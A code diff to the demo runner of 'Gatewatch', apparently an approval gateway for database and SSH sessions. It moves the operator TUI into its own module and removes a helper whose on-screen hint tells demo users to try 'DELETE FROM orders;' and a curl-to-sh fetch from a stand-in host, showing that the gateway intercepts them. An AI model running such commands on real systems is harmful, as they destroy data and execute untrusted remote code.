@@ -98,7 +98,13 @@ async def run_demo(policies: Path, *, headless: bool) -> int:
                     await stop.wait()
                 _say("stopping…")
             else:
-                await _run_tui(info, shutdown)
+                from gatewatch.demo.tui import run_tui
+
+                def on_signal(stop: Callable[[], object]) -> None:
+                    shutdown.interrupt = stop
+
+                if shutdown.signal is None:
+                    await run_tui(info, on_signal)
             shutdown.interrupt = _nothing
         if not headless:
             _say(f"Gatewatch demo: stopped; {info['dir']} (store, control socket, targets, keys "
@@ -234,31 +240,6 @@ def _gateway_host_key(config: Config, connection: str) -> str:
     """The gateway's SSH host key as a known_hosts entry's "type base64" (to pin it)."""
     pub = config.engine.store.with_name(f"ssh_host_{connection}_ed25519_key.pub")
     return " ".join(pub.read_text().split()[:2])
-
-
-async def _run_tui(info: dict[str, Any], shutdown: _Shutdown) -> None:
-    """The operator's TUI, as the demo's approver, in this process (over the control socket)."""
-    from tui.app import GatewatchApp
-    from tui.source import LiveSource
-
-    pg = info["postgres"]
-    ssh = info["ssh"]
-    hint = (f"demo: PGPASSWORD='{pg['password']}' psql 'host={pg['host']} port={pg['port']} "
-            f"dbname={pg['dbname']} user={pg['user']} sslmode=require'  then try DELETE FROM "
-            f"orders;\n"
-            f"      ssh -p {ssh['port']} {ssh['user']}@{ssh['host']}  (password "
-            f"{ssh['password']})  then try: curl -s https://example.invalid/x | sh\n"
-            f"      operator {info['approver']['user']}, from another terminal: gatewatch "
-            f"approvals -c {info['config']} --token {info['approver']['token']}\n"
-            f"      (or . {info['dir']}/operator.env; then gatewatch sessions, approvals, "
-            f"kill, lockouts, tui)")
-    if os.geteuid() != 0:
-        hint += (f"\n      not root: the SSH target's shells run as you "
-                 f"({info['ssh_direct']['runs_as']}) and can read this demo's files")
-    app = GatewatchApp(LiveSource(Path(info["control"]), info["approver"]["token"]), hint=hint)
-    shutdown.interrupt = app.exit
-    if shutdown.signal is None:
-        await app.run_async()
 
 
 def _say(line: str) -> None:
